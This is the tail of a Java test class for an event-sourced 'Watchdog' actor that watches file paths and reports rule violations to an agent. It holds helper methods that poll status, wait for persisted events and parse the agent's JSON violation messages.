  private void start(Watchdog.WatchSetup watch) {
    var result = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(watch, replyTo));
    assertEquals(Done.getInstance(), result.reply());
    assertEquals(watch, result.eventOfType(Watchdog.WatchStarted.class).setup());
    checkpoints.expectMessage(PATIENCE, new CheckpointAsked(Trigger.DEBOUNCE, List.of(), true));
  }

  private Watchdog.WatchStatus status() {
    return watchdog.<Watchdog.WatchStatus>runCommand(Watchdog.GetStatus::new).reply();
  }

  private void awaitStatus(Predicate<Watchdog.WatchStatus> condition, String what) {
    long deadline = System.nanoTime() + PATIENCE.toNanos();
    Watchdog.WatchStatus status = status();
    while (!condition.test(status)) {
      if (System.nanoTime() > deadline) {
        fail(what + ": status " + status);
      }
      sleep();
      status = status();
    }
  }

  private List<Object> journal() {
    return watchdog.persistenceTestKit().persistedInStorage(persistenceId);
  }

  private <E extends Watchdog.Event> List<E> events(Class<E> type) {
    return journal().stream().filter(type::isInstance).map(type::cast).toList();
  }

  /**
   * Waits until the journal holds {@code count} matching events and returns the last; they were
   * persisted outside any command the testkit ran, so their serialization is checked here.
   */
  private <E extends Watchdog.Event> E awaitCount(Class<E> type, Predicate<E> matching, int count, String what) {
    long deadline = System.nanoTime() + PATIENCE.toNanos();
    while (true) {
      List<E> found = events(type).stream().filter(matching).toList();
      if (found.size() >= count) {
        found.forEach(event -> serialization.verifySerialization(event, true));
        return found.get(count - 1);
      }
      if (System.nanoTime() > deadline) {
        fail(what + " was not persisted; journal: " + journal());
      }
      sleep();
    }
  }

  private <E extends Watchdog.Event> E awaitEvent(Class<E> type, Predicate<E> matching, String what) {
    return awaitCount(type, matching, 1, what);
  }

  private Watchdog.ViolationRecord awaitViolation(String rule, String path) {
    Watchdog.ViolationsDetected detected = awaitEvent(Watchdog.ViolationsDetected.class,
        v -> v.violations().stream().anyMatch(r -> r.rule().equals(rule) && r.path().equals(path)), rule + " at " + path);
    assertEquals(id, detected.featureId());
    return detected.violations().stream().filter(r -> r.rule().equals(rule) && r.path().equals(path)).findFirst().orElseThrow();
  }

  private void assertNoViolations() {
    assertEquals(List.of(), events(Watchdog.ViolationsDetected.class));
  }

  private static Optional<Watchdog.RecordedChange> recorded(Watchdog.ChangesRecorded batch, String path) {
    return batch.changes().stream().filter(c -> c.path().equals(path)).findFirst();
  }

  private CheckpointAsked awaitCheckpoint(Predicate<CheckpointAsked> matching, String what) {
    List<CheckpointAsked> fished = checkpoints.fishForMessage(PATIENCE, what,
        c -> matching.test(c) ? FishingOutcomes.complete() : FishingOutcomes.continueAndIgnore());
    return fished.get(fished.size() - 1);
  }

  /** The agent's violation message naming {@code path}, parsed. */
  private JsonNode awaitAgentTold(String path) {
    JsonNode[] told = new JsonNode[1];
    agent.fishForMessage(PATIENCE, "a violation message naming " + path, message -> {
      JsonNode node = parse(message);
      boolean names = node.path("type").asText().equals("violation")
          && node.path("violations").findValuesAsText("path").contains(path);
      told[0] = names ? node : null;
      return names ? FishingOutcomes.complete() : FishingOutcomes.continueAndIgnore();
    });
    return told[0];
  }

  private static JsonNode parse(String message) {
    try {
      return json.readTree(message);
    } catch (IOException e) {
      throw new AssertionError("not JSON: " + message, e);
    }
  }

  private static void sleep() {
    try {
      Thread.sleep(20);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }
}
